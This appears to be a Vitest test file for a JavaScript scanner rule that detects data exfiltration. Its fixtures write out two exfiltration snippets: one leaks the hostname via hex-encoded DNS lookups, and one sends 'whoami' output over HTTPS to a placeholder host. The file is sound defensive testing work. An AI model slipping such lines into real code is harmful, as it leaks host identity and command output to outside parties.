import { describe, expect, it } from 'vitest';
import { ruleFindings } from '../helpers.js';

describe('JS-011 host-data-exfiltration-flow', () => {
  it('flags hostnames encoded into DNS lookups', async () => {
    const f = await ruleFindings(
      'JS-011',
      "const dns = require('dns'), os = require('os'); dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.x.invalid', () => {});",
    );
    expect(f[0]?.severity).toBe('high');
    expect(f[0]?.evidence?.sink).toBe('dns.lookup');
  });
  it('flags command output sent over http', async () => {
    const code = `const cp = require('child_process');
      const who = cp.execSync('whoami').toString();
      require('https').get('https://x.invalid/?u=' + encodeURIComponent(who));`;
    expect(await ruleFindings('JS-011', code)).toHaveLength(1);
  });
  it('ignores uploads of ordinary file contents', async () => {
    const code =
      "const body = require('fs').readFileSync('./report.json'); fetch('https://api.invalid/upload', { method: 'POST', body });";
    expect(await ruleFindings('JS-011', code)).toHaveLength(0);
  });
});
